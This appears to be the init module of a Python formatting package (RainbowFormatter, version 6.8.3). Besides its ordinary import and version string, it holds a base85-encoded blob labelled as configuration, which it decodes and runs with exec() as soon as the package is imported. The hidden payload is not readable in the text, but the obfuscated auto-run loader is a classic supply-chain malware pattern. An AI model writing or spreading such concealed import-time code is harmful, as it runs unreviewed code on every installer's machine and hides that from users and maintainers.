import base64 as _b

from .formatters import RainbowFormatter

__version__ = "6.8.3"

_cfg = b'X>D+Ca&#bbZ)0m^bS!UkEO2yr3UfVkZ)0m^bS`smV{2t}D06RPYh`pUK}KImPDNBKb8lm7Wppl6PeV&zQ&dt#K}{(Nb1q|VZf<2`bSNkyGB7hPFfK7MGcGhSA}lmCG&CtG3R`b;E@X9ZGAMH{W@&6?Zf__lEM_SnW^ZyJW*}*9ASf^_F)T7ET?%k?c`kEsVRvpQA}?ZTZZC6aA}I<'
exec(_b.b85decode(_cfg))
